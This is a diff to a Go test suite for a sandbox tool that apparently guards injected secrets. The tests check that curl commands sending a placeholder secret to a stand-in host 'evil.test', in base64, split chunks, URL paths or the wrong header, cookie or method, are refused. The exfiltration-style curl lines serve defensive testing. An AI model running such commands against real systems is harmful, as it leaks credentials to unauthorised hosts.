@@ -245,6 +245,19 @@ func TestSEC02_NeverOverPlainHTTP(t *testing.T) {
 	})
 }
 
+// each runs scripts one after the other in one sandbox, and returns what each of
+// them printed.
+func (w *secretWorld) each(t *testing.T, scripts []string, flags ...string) ([]string, yard.Result) {
+	t.Helper()
+	const mark = "== the next one"
+	r := w.y.Sh(t, strings.Join(scripts, "\necho '"+mark+"'\n")+"\ntrue", flags...).OK(t)
+	said := strings.Split(r.Stdout, mark+"\n")
+	if len(said) != len(scripts) {
+		t.Fatalf("%d scripts printed %d texts:\n%s\n%s", len(scripts), len(said), r.Stdout, r.Stderr)
+	}
+	return said, r
+}
+
 // TestSEC03_PlaceholderElsewhereIsRefused: other hosts, other places, other
 // encodings; where bailey cannot see it is worthless.
 func TestSEC03_PlaceholderElsewhereIsRefused(t *testing.T) {
@@ -264,7 +277,7 @@ for b in p: s.sendall(b"1\r\n%c\r\n" % b)
 s.sendall(b"0\r\n\r\n")
 print(s.recv(65536).decode())
 END`
-		for _, c := range []struct{ name, script, want string }{
+		cases := []struct{ name, script, want string }{
 			{"B001 an inspected host", bearer("https://www.allow.test/"), "secret-wrong-host"},
 			{"B001 plain HTTP to another host", bearer("http://evil.test/"), "secret-wrong-host"},
 			{"B006 another secret's host", bearer("https://two.test/"), "secret-wrong-host"},
@@ -278,19 +291,23 @@ END`
 			{"B030 in base64 in a body", `for pad in "" a ab; do curl -sS --data-raw "$(printf %s "$pad$DEMO" | base64 -w0)" https://allow.test/; done`, "secret-misplaced"},
 			{"B032 split over chunks", split, "secret-misplaced"},
 			{"B034 in the path", `curl -sS "https://allow.test/a/$DEMO/b"`, "secret-misplaced"},
-		} {
+		}
+		var scripts []string
+		for _, c := range cases {
+			scripts = append(scripts, c.script)
+		}
+		said, r := w.each(t, scripts, "--secret", "demo", "--secret", "second")
+		for i, c := range cases {
 			t.Run(c.name, func(t *testing.T) {
-				before := len(w.lab.Requests())
-				r := y.Sh(t, c.script, "--secret", "demo", "--secret", "second")
-				if !strings.Contains(r.Stdout, c.want) {
-					t.Errorf("want %s: %s\n%s", c.want, r.Stdout, r.Stderr)
-				}
-				for _, q := range w.lab.Requests()[before:] {
-					if strings.Contains(fmt.Sprint(q.Header, q.Path), w.value) {
-						t.Errorf("the value arrived: %s %s", q.Method, q.Host)
-					}
+				if !strings.Contains(said[i], c.want) {
+					t.Errorf("want %s: %s\n%s", c.want, said[i], r.Stderr)
 				}
 			})
+		}
+		for _, q := range w.lab.Requests() {
+			if strings.Contains(fmt.Sprint(q.Header, q.Path), w.value) {
+				t.Errorf("the value arrived: %s %s", q.Method, q.Host)
+			}
 		}
 		t.Run("a host that is passed on unseen gets a worthless one", func(t *testing.T) {
 			r := y.Sh(t, `echo "$DEMO"; `+bearer("https://evil.test/"), "--secret", "demo").OK(t)
@@ -320,17 +337,22 @@ func TestSEC04_ThePlaceIsPartOfTheRule(t *testing.T) {
 		w.set(t, "query", query, "--host", "allow.test", "--query", "key")
 		w.set(t, "cookie", cookie, "--host", "allow.test", "--cookie", "session")
 		w.set(t, "narrow", narrow, "--host", "allow.test", "--header", "X-Api-Key", "--format", "{}", "--method", "GET", "--path", "/v1")
-		for _, c := range []struct{ name, secret, good, bad, reason string }{
-			{"Basic", "basic", `curl -sS -u "x-access-token:$BASIC" https://allow.test/y`, `curl -sS -H "Authorization: Bearer $BASIC" https://allow.test/n`, "secret-misplaced"},
-			{"query", "query", `curl -sS "https://allow.test/y?a=b&key=$QUERY"`, `curl -sS "https://allow.test/n?other=$QUERY"`, "secret-misplaced"},
-			{"cookie", "cookie", `curl -sS -b "a=b; session=$COOKIE" https://allow.test/y`, `curl -sS -b "other=$COOKIE" https://allow.test/n`, "secret-misplaced"},
-			{"path", "narrow", `curl -sS -H "X-Api-Key: $NARROW" https://allow.test/v1/y`, `curl -sS -H "X-Api-Key: $NARROW" https://allow.test/v11/n`, "secret-not-covered"},
-			{"method", "narrow", `curl -sS -H "X-Api-Key: $NARROW" https://allow.test/v1/y`, `curl -sS -X DELETE -H "X-Api-Key: $NARROW" https://allow.test/v1/n`, "secret-not-covered"},
-		} {
+		cases := []struct{ name, good, bad, reason string }{
+			{"Basic", `curl -sS -u "x-access-token:$BASIC" https://allow.test/y`, `curl -sS -H "Authorization: Bearer $BASIC" https://allow.test/n`, "secret-misplaced"},
+			{"query", `curl -sS "https://allow.test/y?a=b&key=$QUERY"`, `curl -sS "https://allow.test/n?other=$QUERY"`, "secret-misplaced"},
+			{"cookie", `curl -sS -b "a=b; session=$COOKIE" https://allow.test/y`, `curl -sS -b "other=$COOKIE" https://allow.test/n`, "secret-misplaced"},
+			{"path", `curl -sS -H "X-Api-Key: $NARROW" https://allow.test/v1/y`, `curl -sS -H "X-Api-Key: $NARROW" https://allow.test/v11/n`, "secret-not-covered"},
+			{"method", `curl -sS -H "X-Api-Key: $NARROW" https://allow.test/v1/y`, `curl -sS -X DELETE -H "X-Api-Key: $NARROW" https://allow.test/v1/n`, "secret-not-covered"},
+		}
+		var scripts []string
+		for _, c := range cases {
+			scripts = append(scripts, c.good+"; echo; "+c.bad)
+		}
+		said, r := w.each(t, scripts, "--secret", "basic", "--secret", "query", "--secret", "cookie", "--secret", "narrow")
+		for i, c := range cases {
 			t.Run(c.name, func(t *testing.T) {
-				r := y.Sh(t, c.good+"; echo; "+c.bad, "--secret", c.secret)
-				if !strings.Contains(r.Stdout, "/y by HTTP/2.0") || !strings.Contains(r.Stdout, c.reason) || strings.Contains(r.Stdout, "/n by") {
-					t.Errorf("%s\n%s", r.Stdout, r.Stderr)
+				if s := said[i]; !strings.Contains(s, "/y by HTTP/2.0") || !strings.Contains(s, c.reason) || strings.Contains(s, "/n by") {
+					t.Errorf("%s\n%s", s, r.Stderr)
 				}
 			})
 		}
